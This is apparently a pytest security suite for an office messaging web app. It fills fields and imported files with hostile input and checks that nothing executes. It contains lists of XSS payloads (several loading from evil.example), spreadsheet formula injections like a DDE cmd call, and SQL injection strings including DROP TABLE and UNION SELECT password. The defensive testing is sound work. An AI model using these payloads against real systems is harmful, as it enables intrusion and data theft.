"""Text from outside stays text: on pages, in spreadsheets, in databases.

Seen to fail, each once by hand: without escaping `<` in views, nearly every page raised alarms, live ones too; without
escaping quotation marks, a contact's form took a payload for an attribute.
"""
import csv
import io
import itertools
import re

import pytest

from harness.client import good
from harness.office import PASSWORD, email, fresh_number
from harness.waiting import wait_until

# Payloads known to work somewhere: in text, in attributes, in addresses, in script-built markup.
BASES = [
    "<script>{}</script>", "</script><script>{}</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror={}>", "<img/src=`x`onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>", "<body onload={}>", "<iframe src=javascript:{}>",
    "<iframe srcdoc='<script>{}</script>'>", "<object data=javascript:{}>", "<embed src=javascript:{}>",
    "<a href=javascript:{}>x</a>", "<a href='java&#9;script:{}'>x</a>", "<form action=javascript:{}><button>x",
    "<input autofocus onfocus={}>", "<details open ontoggle={}>", "<video><source onerror={}>", "<audio src onerror={}>",
    "<marquee onstart={}>", "<math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={} src>'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css'</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<base href=//evil.example/>",
    "<img src=//evil.example/pixel.png>", "<template><script>{}</script></template>", "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "\" onmouseover={} x=\"", "' onmouseover={} x='", "\"><img src=x onerror={}>", "'><svg onload={}>",
    "\" autofocus onfocus={} x=\"", "`onmouseover={}`", "</textarea><script>{}</script>", "</title><script>{}</script>",
    "</style><script>{}</script>", "--><script>{}</script>", "]]><script>{}</script>", "<!--><script>{}</script>",
    "javascript:{}", "data:text/html,<script>{}</script>", "JaVaScRiPt:{}", "\u2028{}", "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}", "<%={}%>", "\\u003cscript\\u003e{}", "&lt;script&gt;{}&lt;/script&gt;", "%3Cscript%3E{}%3C/script%3E",
    "\ufeff<script>{}</script>", "<scr\u0000ipt>{}</scr\u0000ipt>", "<\u200bscript>{}", "＜script＞{}", "<ſcript>{}</ſcript>",
    "<x onclick={}>x</x>", "<button popovertarget=x onbeforetoggle={}>", "<select><option onfocus={}>", "<table background=//evil.example/>",
    "<div style=background:url(//evil.example/)>", "<p style=width:expression({})>", "<isindex action=javascript:{}>", "<applet code=x>",
    "<bdo dir=rtl>{}", "tel:{}", "mailto:{}?subject=<script>",
]
ACTS = ["alert(1)", "document.title='XSS'", "fetch('//evil.example/')"]
CORPUS = [base.format(act) for base, act in itertools.product(BASES, ACTS)]


def limited(text, limit=200):
    return text[:limit]


@pytest.fixture(scope="module")
def infested(templates, tmp_path_factory):
    """An office in which every writable text is a payload."""
    from harness.office import Office

    storage, known = templates("sqlite")
    folder = tmp_path_factory.mktemp("infested")
    with Office(storage.copy(folder / "office"), known, folder / "log") as office:
        infest(office)
        yield office


def infest(office):
    payloads = itertools.cycle(CORPUS)
    eve = office.id("Eve")
    for payload in CORPUS:
        office.call_for("Eve", name=limited(payload), regarding=limited(payload), told=limited(payload), code=3)
    for payload in CORPUS[::3]:
        good(office.fay.post("/contacts", {
            "name": limited(payload), "company": limited(next(payloads)), "honorific": next(payloads)[:20],
            "pronunciation": limited(next(payloads)),
            "numbers": [{"label": next(payloads)[:20], "number": fresh_number()}]}), 201)
    contact = good(office.fay.get("/contacts", limit=1))["contacts"][0]["id"]
    for payload in CORPUS[::10]:
        good(office.eve.post(f"/contacts/{contact}/context", {"text": payload}), 204)
        good(office.eve.post("/waiting", {
            "name": limited(payload), "line": payload[:10], "number": payload[:30], "for": payload[:50],
            "draft": {"regarding": payload, payload[:30]: payload}}), 201)
    good(office.fay.put(f"/contacts/{contact}/standings/{eve}", {"standing": "wanted", "why": limited(CORPUS[3])}), 204)
    for number, payload in enumerate(CORPUS[::12]):
        entry = office.call_for("Eve", contact=contact, name=limited(payload), code=1, again="new")
        if number % 2:
            good(office.eve.post(f"/messages/{entry['id']}/attempts", {
                "outcome": "leftWord", "with": limited(payload), "said": payload}))
        good(office.eve.post(f"/messages/{entry['id']}/answers", {"answer": "context", "text": payload}))
        good(office.eve.post(f"/messages/{entry['id']}/answers", {"answer": "needMore", "text": payload}))
        good(office.eve.post(f"/messages/{entry['id']}/handovers", {"to": office.id("Ana"), "note": payload}), 201)
    for payload in CORPUS[::25]:
        entry = office.call_for("Ana", name=limited(payload))
        good(office.ana.post(f"/messages/{entry['id']}/handovers", {"to": eve, "note": payload}), 201)
        good(office.eve.post("/tokens", {"name": limited(payload), "scopes": ["read"]}), 201)
    for number, payload in enumerate(CORPUS[::40]):
        person = good(office.fay.post("/people", {
            "name": limited(payload), "email": f"x{number}@millerrowe.example", "roles": ["staff"],
            "pronunciation": limited(payload)}), 201)["id"]
        good(office.fay.post("/teams", {
            "name": limited(payload), "lead": person, "members": [person], "topics": [limited(payload)],
            "rota": [{"person": person, "weekday": "monday", "hours": "08:00-17:00"}]}), 201)
    for number, payload in enumerate(CORPUS[::50]):
        good(office.fay.put(f"/office/holidays/2031-01-{number + 10}", {"name": limited(payload)}))
    good(office.fay.patch("/office", {"name": limited(CORPUS[0])}))


ALARMS = """
    const allowed = ['/', 'tel:', '#', location.origin];
    return Array.from(document.querySelectorAll('*')).flatMap(e => {
        const found = [];
        if (e.matches('body script, iframe, object, embed, img, video, audio, marquee, math, base, style, applet, isindex'))
            found.push(e.outerHTML.slice(0, 120));
        if (e.matches('svg') && e.closest('a.mark') === null && e.querySelector('script, animate'))
            found.push(e.outerHTML.slice(0, 120));
        for (const a of e.attributes) {
            if (a.name.startsWith('on')) found.push(a.name + '=' + a.value.slice(0, 60));
            if (['href', 'src', 'action', 'formaction', 'data'].includes(a.name) && a.value
                && !allowed.some(start => a.value.startsWith(start)) && !a.value.startsWith('?'))
                found.push(a.name + '=' + a.value.slice(0, 60));
        }
        return found;
    })
"""


def alarms(browser, office):
    """Everything that shows text became more than text on a page."""
    found = list(browser.script(ALARMS))
    found += [f"dialog: {text}" for text in [browser.dialog()] if text]
    found += [f"title: {browser.driver.title}" for _ in [0] if browser.driver.title == "XSS"]
    found += [line for line in browser.complaints() if "404" not in line]
    found += [
        f"asked {address}" for address in browser.asked_for()
        if not address.startswith((office.server.url, "data:", "blob:"))]
    return found


@pytest.mark.browser
@pytest.mark.parametrize("name", ["Eve", "Fay"])
def test_no_text_becomes_more_than_text_on_any_page(infested, browser, name):
    office, eve = infested, infested.id("Eve")
    browser.visit(office.server.url).sign_in(name)
    contacts = [each["id"] for each in good(office.fay.get("/contacts", limit=200))["contacts"]]
    messages = [each["id"] for each in good(office.eve.get(f"/sheets/{eve}", limit=200))["entries"]]
    people = [each["id"] for each in good(office.fay.get("/people"))["people"] if "<" in each["name"]]
    teams = [each["id"] for each in good(office.fay.get("/teams"))["teams"] if "<" in each["name"]]
    pages = [
        "/desk", "/desk?q=script", f"/desk?contact={contacts[0]}", f"/desk?contact={contacts[9]}", "/sheets",
        f"/sheets/{eve}", f"/sheets/{eve}?face=out", f"/sheets/{eve}?face=done", "/contacts", "/contacts?q=script",
        "/contacts/new", "/profile", "/people", "/teams", "/office",
        *[f"/messages/{message}" for message in messages[:12]], *[f"/contacts/{contact}" for contact in contacts[::9]]]
    if name == "Fay":
        pages += ["/history", f"/history?subject=message:{messages[0]}", f"/people/{people[0]}", f"/teams/{teams[0]}"]
    # Text from an address is outside text, too.
    pages += [f"/contacts?q={payload}" for payload in ("%22%3E%3Cscript%3Ealert(1)%3C/script%3E", "'-alert(1)-'")]
    pages += ["/desk?q=%22%3E%3Csvg%20onload=alert(1)%3E", "/sign-in?next=javascript:alert(1)",
              "/desk?number=%22%3E%3Cscript%3Ealert(1)%3C/script%3E", "/no%3Cscript%3Ealert(1)%3C/script%3E"]
    browser.forget_what_happened()
    found = {}
    for page in pages:
        browser.open(page)
        if problems := alarms(browser, office):
            found[page] = problems[:5]
    assert not found, found


@pytest.mark.browser
def test_no_text_becomes_more_than_text_when_it_comes_live_or_while_typing(infested, browser):
    office = infested
    browser.visit(office.server.url).sign_in("Sam").open(f"/sheets/{office.id('Sam')}")
    browser.find("#entries")
    browser.forget_what_happened()
    for payload in CORPUS[::8]:
        last = office.call_for("Sam", name=limited(payload), regarding=limited(payload), code=1)
    browser.until(lambda: browser.all(f"#m-{last['id']}"), "the last one has come")
    assert alarms(browser, office) == []
    browser.press("j", "j", "j")
    browser.until(lambda: browser.text("#card"), "the card is shown")
    assert alarms(browser, office) == []
    browser.open("/desk")
    for typed in ("<", "script", "img", "&lt"):
        browser.find("#q").clear()
        browser.find("#q").send_keys(typed)
        browser.until(lambda: browser.all("#results li"), "something is found, or a new caller is offered")
        assert alarms(browser, office) == []


def test_what_is_written_is_shown_as_it_was_written(infested):
    """Escaped once, not twice, and nothing removed."""
    from harness.browsing import Visitor

    with Visitor(infested.server.url) as visitor:
        visitor.sign_in(email("Ana"), PASSWORD)
        for text in ("Tom & Jerry <GmbH>", "5 < 6 && 7 > 2", "&amp; is an ampersand", "\"quoted\" 'twice'"):
            entry = infested.call_for("Ana", name=text, regarding=text)
            assert entry["caller"]["name"] == text
            assert text in visitor.open(f"/messages/{entry['id']}").text


def payload_lists(folder):
    """Files of each importable kind, with a payload in every field."""
    folder.mkdir()
    payloads = itertools.cycle(CORPUS + FORMULAS)

    def one(limit=60):
        return re.sub(r"[\r\n\u0000]", " ", next(payloads))[:limit]

    header = ["Name", "Name Prefix", "Phonetic Name", "Organization Name", "Notes", "E-mail 1 - Label", "E-mail 1 - Value",
              "Phone 1 - Label", "Phone 1 - Value", one()]
    text = io.StringIO()
    table = csv.writer(text)
    table.writerow(header)
    for _ in range(60):
        table.writerow([one(), one(20), one(), one(), one(), one(20), "a@b.example", one(20), fresh_number(), one()])
        table.writerow([one(), "", "", "", "", "", one(), "", one(), ""])
    (folder / "table.csv").write_text(text.getvalue())
    for version in ("2.1", "3.0", "4.0"):
        cards = []
        for _ in range(40):
            cards += ["BEGIN:VCARD", f"VERSION:{version}", f"FN:{one()}", f"N:{one(20)};{one(20)};;{one(20)};",
                      f"NICKNAME:{one()}", f"ORG:{one()};{one()}", f"ORG:{one()}", f"TITLE:{one()}", f"ADR:;;{one()};{one()};;;",
                      f"item1.TEL:{fresh_number()}", f"item1.X-ABLabel:{one(20)}", f"TEL:{one()}", f"TZ:{one()}/x",
                      f"EMAIL:{one()}", f"NOTE:{one()}", f"BDAY:{one()}", f"X-{one(10)}:{one()}", "END:VCARD"]
        (folder / f"cards-{version}.vcf").write_text("\r\n".join(cards) + "\r\n")
    log = io.StringIO()
    table = csv.writer(log)
    table.writerow(["calldate", "clid", "src", "dst", "disposition", "billsec", "uniqueid", one()])
    for _ in range(40):
        table.writerow(["2026-11-20 14:02:11", one(), fresh_number(), one(10), one(), "12", one(), one()])
        table.writerow([one(), one(), one(), "101", "ANSWERED", one(), one(), one()])
    (folder / "cdr.csv").write_text(log.getvalue())
    return sorted(folder.iterdir())


@pytest.mark.browser
def test_no_list_that_is_brought_in_becomes_more_than_text(new_office, browser, tmp_path):
    """Every kind of file (XSS through imports), tried and imported through the page, and all pages that show it."""
    with new_office() as office:
        browser.visit(office.server.url).sign_in("Fay")
        browser.forget_what_happened()
        found = {}

        def look(place):
            if problems := alarms(browser, office):
                found[place] = problems[:5]

        for file in payload_lists(tmp_path / "lists"):
            browser.open("/contacts/import").find("#f-file").send_keys(str(file))
            browser.click("#import form button")
            browser.wait_for_text("Nothing has been changed yet")
            look(f"{file.name}, tried out")
            browser.click("#import > form button.main")
            browser.until(lambda: "new" in browser.text("#import") and not browser.all("#import > form button.main"), "it is in")
            look(f"{file.name}, brought in")
        contacts = [each["id"] for each in good(office.fay.get("/contacts", limit=200))["contacts"]]
        assert len(contacts) > 150
        pages = ["/contacts", "/contacts?q=script", "/contacts/duplicates", "/history", f"/desk?contact={contacts[3]}", "/desk?q=img",
                 *[f"/contacts/{contact}" for contact in contacts[::6]], *[f"/history?subject=contact:{contact}" for contact in contacts[:4]],
                 f"/contacts/{contacts[1]}/erasure"]
        for page in pages:
            browser.open(page)
            look(page)
        assert not found, found
        answer = office.fay.get("/contacts/export")
        for row in list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))[1:]:
            for cell in row:
                assert not re.match(r"[\s\u200b\ufeff]*[=+\-@＝＋－＠]", cell) or cell.startswith("'"), repr(cell)


# Spreadsheets

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")", "\t=1+1", "\r=1+1",
    "\n=1+1", " =1+1", "'=1+1", "\"=1+1\"", "=1+1\",\"=2+2", ";=1+1", ",=1+1", "＝1+1", "＋1", "－1", "＠x", "%0A=1+1",
    "|calc", "=DDE(\"cmd\")", "--1", "\u200b=1+1", "\ufeff=1+1"]


@pytest.fixture
def export(new_office):
    """The contacts of an office in which every cell would be a formula, as CSV."""
    with new_office() as office:
        kept = []
        for formula in FORMULAS:
            kept.append(good(office.fay.post("/contacts", {
                "name": f"{formula}", "company": formula, "honorific": formula[:20], "pronunciation": formula,
                "numbers": [{"label": formula[:20], "number": fresh_number()}]}), 201))
        yield office, kept, office.fay.get("/contacts/export")


def test_no_cell_of_an_export_is_a_formula(export):
    office, kept, answer = export
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert "attachment" in answer.headers["content-disposition"]
    assert answer.headers["x-content-type-options"] == "nosniff"
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))
    assert len(rows) == len(kept) + 1 and len({len(row) for row in rows}) == 1
    for row in rows[1:]:
        for cell in row:
            assert not re.match(r"[\s\u200b\ufeff]*[=+\-@＝＋－＠]", cell) or cell.startswith("'"), repr(cell)
    # Every cell is quoted, so that no country's separator opens a new one.
    for line in answer.content.decode("utf-8-sig").replace("\r\n", "\n").split("\n"):
        assert not line or line.startswith('"') or '"' in line


def test_an_export_brought_in_again_is_what_was_there(export):
    office, kept, answer = export
    report = good(office.fay.ask(
        "POST", "/contacts/import", content=answer.content, params={"dry": "true"},
        headers={"Content-Type": "text/csv"}))
    assert (report["new"], report["refused"]) == (0, 0), [row for row in report["rows"] if row["fate"] != "known"][:3]


# Databases

STATEMENTS = [
    "' OR '1'='1", "'; DROP TABLE message; --", "1; DELETE FROM journal", "' UNION SELECT password FROM person --",
    "x' AND 1=CAST((SELECT count(*) FROM person) AS int) --", "%' OR 1=1 --", "\\'; --", "1) OR (1=1", "$1", "?1", "$$x$$",
    "name DESC", "code; --", "(SELECT 1)", "NULL", "0x41", "1e5", "_%", "%", "*", "a\u0000b", "'||(SELECT sqlite_version())||'",
    "'; SELECT pg_sleep(10); --", "1 OR SLEEP(10)", "id` --", "\"id\"", "[id]"]


def test_no_parameter_reaches_the_database_as_a_statement(office):
    """Every parameter of every list in the API's description, on both engines."""
    document = good(office.stranger.get("/openapi.json"))
    # Things opened, exported or refused belong in the history.
    tables = ("SELECT count(*) FROM message", "SELECT count(*) FROM person", "SELECT count(*) FROM journal WHERE action NOT IN"
              " ('message.opened', 'messages.exported', 'contacts.exporting', 'contacts.exported', 'access.refused', 'lookups.day')")
    before = [office.storage.rows(table) for table in tables]
    tried = 0
    for path, methods in document["paths"].items():
        get = methods.get("get")
        if not get:
            continue
        parameters = [each for each in get.get("parameters", []) if each["in"] in ("path", "query")]
        for parameter, statement in itertools.product(parameters, STATEMENTS):
            ids = {each["name"]: office.id("Ana") for each in parameters if each["in"] == "path"}
            query = {}
            if parameter["in"] == "path":
                ids[parameter["name"]] = statement.replace("%", "%25").replace("?", "%3F").replace(
                    "\u0000", "%00").replace("/", "%2F").replace("#", "%23")
            else:
                query = {parameter["name"]: statement}
            answer = office.fay.ask("GET", path.removeprefix("/api/v1").format(**ids), params=query)
            # Whoever runs the office does not read what people say of themselves.
            allowed = (403,) if "/fairness" in path else ()
            assert answer.status_code in (200, 400, 404, 422, *allowed), (path, parameter["name"], statement, answer.text)
            assert "SQL" not in answer.text.upper().replace("SQLITE_VERSION", "") or statement in answer.text
            assert answer.elapsed.total_seconds() < 5
            tried += 1
    assert tried > 300
    assert [office.storage.rows(table) for table in tables] == before


def test_no_parameter_is_taken_for_another_order_or_filter(office):
    for parameter in ("sort", "order", "orderBy", "filter", "where", "fields", "include", "offset", "page"):
        answer = office.fay.get("/contacts", **{parameter: "name"})
        assert answer.status_code == 422 and "not a known field" in answer.text


def test_wildcards_find_only_themselves(office):
    good(office.fay.post("/contacts", {"name": "Wilma Percent"}), 201)
    # Not “%ilma”: that is one typo away from the name.
    for typed in ("%", "_", "*", "?", "W%a", "W_a", "W*a", "[V-X]", "W%%%t"):
        assert good(office.fay.get("/contacts", q=typed))["contacts"] == [], typed
    assert good(office.fay.get("/contacts", q="wilma"))["contacts"]


def test_a_database_statement_as_a_name_is_a_name(office):
    for statement in STATEMENTS[:6]:
        entry = office.call_for("Ana", name=statement, regarding=statement)
        assert (entry["caller"]["name"], entry["regarding"]) == (statement, statement)
    wait_until(office.server.is_ready, "it is ready")
